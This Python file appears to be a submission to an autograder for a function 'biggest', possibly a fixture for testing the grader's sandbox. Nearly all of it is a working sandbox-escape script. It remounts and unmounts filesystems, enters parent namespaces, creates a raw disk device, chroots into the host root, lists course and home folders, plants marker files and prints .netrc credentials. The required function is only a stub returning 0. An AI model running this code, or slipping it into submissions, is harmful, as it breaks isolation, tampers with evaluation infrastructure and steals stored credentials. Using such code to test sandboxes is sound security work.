# Mounts, remounts and unmounts, changes root, makes devices, enters the namespaces of its parents.
# %% answer: biggest
import contextlib
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for place in (b"/", b"/mnt", b"/usr", b"/tmp", b"/work"):
    libc.mount(None, place, None, 32 | 4096, None)
    libc.mount(None, place, None, 32, None)
for pid in (1, os.getppid()):
    for kind in ("user", "mnt", "pid", "net"):
        with contextlib.suppress(OSError):
            libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
libc.unshare(0x10000000 | 0x20000)
for place in (b"/mnt", b"/tmp", b"/dev/shm", b"/work", b"/proc"):
    libc.umount2(place, 2)
with contextlib.suppress(OSError):
    os.mknod("disk", 0o60600, os.makedev(254, 0))
    print(len(open("disk", "rb").read(100)))
with contextlib.suppress(OSError):
    os.chroot("/proc/1/root")
for place in ("/proc/1/root", "/proc/self/root", "/"):
    for folder in ("mnt/course", "mnt/home", "tmp"):
        with contextlib.suppress(OSError):
            print(os.listdir(f"{place}/{folder}"))
        with contextlib.suppress(OSError):
            open(f"{place}/{folder}/left-by-attack-mount", "w").write("x")
with contextlib.suppress(OSError):
    print(open("/proc/1/root/mnt/home/.netrc").read())
with contextlib.suppress(OSError):
    print(open("/mnt/home/.netrc").read())


def biggest(numbers):
    return 0
